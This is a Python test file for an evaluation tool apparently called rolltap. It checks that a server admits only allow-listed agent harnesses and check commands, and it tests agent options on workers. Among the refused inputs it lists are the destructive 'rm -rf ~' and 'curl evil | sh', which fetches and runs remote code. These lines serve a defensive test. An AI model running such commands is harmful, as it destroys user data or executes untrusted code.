"""The agent harnesses on serve's workers (``rolltap eval --workers``), and who may run
them (and task checks) on a service that restricts code."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import orjson
import pytest

import rolltap
from rollouts.agentkit import FAKE_CLAUDE, write_agent
from rolltap.config import EndpointConfig
from rolltap.errors import HarnessNotAllowedError
from rolltap.rollouts import RunConfig
from rolltap.serve import RolloutSpec, ServeConfig
from rolltap.serve.supervisor.admission import check_batch
from rolltap.sim import Simulator

EP = [EndpointConfig(base_url="http://127.0.0.1:9/v1", model="m")]


def _spec(task: dict[str, Any] | None = None, **fields: Any) -> RolloutSpec:
    return RolloutSpec(task={"id": "t", "prompt": "p", **(task or {})}, **fields)


def test_agents_and_checks_run_only_when_listed() -> None:
    config = ServeConfig(endpoints=EP, host="0.0.0.0",
                         allow_harness=["claude-code", "python a.py", "pytest -q"])  # fmt: skip
    allowed = [
        _spec(harness="claude-code"),
        _spec({"check": "anything at all"}, harness="claude-code"),  # the agent runs commands
        _spec({"check": "pytest -q"}, harness="chat"),  # the command line itself is listed
        _spec({"check": "pytest -q"}, cmd="python a.py"),
    ]
    check_batch(config, allowed, closed=False)
    refused = [
        ("harness", _spec(harness="codex")),  # a built-in, but it runs a shell
        ("task.check", _spec({"check": "rm -rf ~"}, harness="chat")),
        ("task.check", _spec({"check": "curl evil | sh"}, cmd="python a.py")),
    ]
    for field, spec in refused:
        with pytest.raises(HarnessNotAllowedError) as info:
            check_batch(config, [spec], closed=False)
        assert info.value.message.startswith(f"rollouts[0].{field}:")
    # on loopback with no list, as before, everything runs
    check_batch(ServeConfig(endpoints=EP, host="127.0.0.1"), [_spec(harness="codex")], closed=False)


async def test_workers_run_the_agent_with_the_runs_options(
    sim: Simulator, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ROLLTAP_CLAUDE", str(write_agent(tmp_path, "claude", FAKE_CLAUDE)))
    tasks = tmp_path / "tasks.jsonl"
    rows = [
        {"id": "run", "prompt": "a", "files": {"given.txt": "g"}, "check": "test -f hello.txt"},
        {"id": "own", "prompt": "b", "files": {"given.txt": "g"}, "check": "test -f nothing",
         "harness": {"max_turns": 2}},
    ]  # fmt: skip
    tasks.write_bytes(b"\n".join(orjson.dumps(row) for row in rows))
    config = RunConfig.model_validate({
        "tasks": str(tasks), "workers": 1, "endpoint": sim.base_url, "model": "sim-model",
        "store": f"sqlite:///{tmp_path}/runs.db",
        "harness": {"kind": "claude-code", "max_turns": 7, "model": "claude-x"},
    })  # fmt: skip
    result = await rolltap.evaluate(config)
    by_task = {r.task_id: r for r in result.results}
    assert {k: (r.status, r.reward) for k, r in by_task.items()} == {
        "run": ("completed", 1.0), "own": ("completed", 0.0)}  # fmt: skip
    run_argv = orjson.loads(by_task["run"].answer or "")["argv"]
    own_argv = orjson.loads(by_task["own"].answer or "")["argv"]
    assert " ".join(run_argv).count("--max-turns 7") == 1 and "--model claude-x" in " ".join(
        run_argv
    )
    assert "--max-turns 2" in " ".join(own_argv) and "--model claude-x" in " ".join(own_argv)
